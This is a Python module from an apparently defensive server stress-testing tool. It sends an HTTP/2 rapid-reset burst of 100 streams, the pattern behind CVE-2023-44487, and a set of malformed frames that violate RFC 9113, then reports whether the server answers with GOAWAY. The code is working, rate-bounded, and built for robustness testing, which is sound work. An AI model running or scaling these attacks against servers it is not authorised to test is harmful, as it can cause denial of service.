"""HTTP/2 attacks: streams opened and reset in a flood, and malformed frames.

Valid frames come from ``h2`` (the client state machine writes the preface, SETTINGS,
HEADERS and RST_STREAM exactly as a real client would); malformed ones are written by
hand, since no library will produce them. Both are bounded per round.
"""

from __future__ import annotations

import struct

import h2.config
import h2.connection
from OpenSSL import SSL

from tlsdoctor.torture.attacks import Round, _quietly
from tlsdoctor.torture.connection import TlsClient

RAPID_RESET_STREAMS = 100
ANSWER_WAIT = 0.5  # seconds to collect the server's reaction (GOAWAY, RST_STREAMs) per round  # per round; CVE-2023-44487 floods used thousands per second


def _h2_client(r: Round) -> tuple[TlsClient, h2.connection.H2Connection] | str:
    tls = r.tls(alpn=(b"h2",))
    note = _quietly(tls.handshake)
    if note is not None:
        tls.drop(r.close)
        return f"handshake: {note}"
    if tls.alpn != "h2":
        tls.close()
        return "server did not select h2"
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    return tls, conn


def _headers(r: Round) -> list[tuple[str, str]]:
    return [(":method", "GET"), (":scheme", "https"), (":authority", r.target.authority), (":path", r.target.path),
            ("user-agent", "tlsdoctor-torture")]


def _finish(tls: TlsClient, r: Round, sent: bytes) -> str:
    note = _quietly(lambda: tls.send(sent))
    tls.sock.settimeout(min(ANSWER_WAIT, r.timeout))  # what the server says back is a note, not worth a wait
    answer = b""
    for _ in range(4):  # a little of what the server says back (GOAWAY, RST_STREAMs), bounded
        try:
            chunk = tls.recv()
        except (OSError, SSL.Error):
            break
        if not chunk:
            break
        answer += chunk
        if len(answer) > 64 * 1024:
            break
    goaway = _has_goaway(answer)
    tls.close()  # politely: an unclean end is another attack's business
    return f"{'send failed: ' + note if note else 'sent'}; server {'sent GOAWAY' if goaway else f'answered {len(answer)} bytes'}"


def _has_goaway(data: bytes) -> bool:
    offset = 0
    for _ in range(10_000):
        if offset + 9 > len(data):
            return False
        length = int.from_bytes(data[offset : offset + 3], "big")
        if data[offset + 3] == 0x7:
            return True
        offset += 9 + length
    return False


def h2_rapid_reset(r: Round) -> str:
    """HEADERS then RST_STREAM(CANCEL) for each of many streams, in one burst."""
    made = _h2_client(r)
    if isinstance(made, str):
        return made
    tls, conn = made
    for index in range(RAPID_RESET_STREAMS):
        stream_id = 1 + 2 * index
        conn.send_headers(stream_id, _headers(r), end_stream=True)
        conn.reset_stream(stream_id, error_code=8)  # CANCEL
    return f"{RAPID_RESET_STREAMS} streams opened and reset; " + _finish(tls, r, conn.data_to_send())


def _frame(kind: int, flags: int, stream: int, payload: bytes, length: int | None = None) -> bytes:
    size = len(payload) if length is None else length
    return size.to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


# Each a frame RFC 9113 says must be treated as a connection (or stream) error.
BAD_FRAMES: tuple[tuple[str, bytes], ...] = (
    ("DATA on stream 0", _frame(0x0, 0x1, 0, b"oops")),
    ("SETTINGS of length 5", _frame(0x4, 0x0, 0, b"\x00\x03\x00\x00\x00")),
    ("WINDOW_UPDATE of 0", _frame(0x8, 0x0, 0, struct.pack(">I", 0))),
    ("PING of length 7", _frame(0x6, 0x0, 0, b"\x00" * 7)),
    ("HEADERS with an undecodable HPACK block", _frame(0x1, 0x5, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff")),
    ("frame longer than SETTINGS_MAX_FRAME_SIZE", _frame(0x0, 0x0, 1, b"\x00" * 16385)),
    ("frame header announcing more than is sent", _frame(0x1, 0x4, 1, b"\x82", length=1000)),
    ("CONTINUATION without HEADERS", _frame(0x9, 0x4, 1, b"\x82")),
)


def h2_bad_frames(r: Round) -> str:
    """After a valid preface and SETTINGS, one malformed frame (a different one each round)."""
    made = _h2_client(r)
    if isinstance(made, str):
        return made
    tls, conn = made
    name, frame = BAD_FRAMES[(r.index - 1) % len(BAD_FRAMES)]
    return f"{name}; " + _finish(tls, r, conn.data_to_send() + frame)
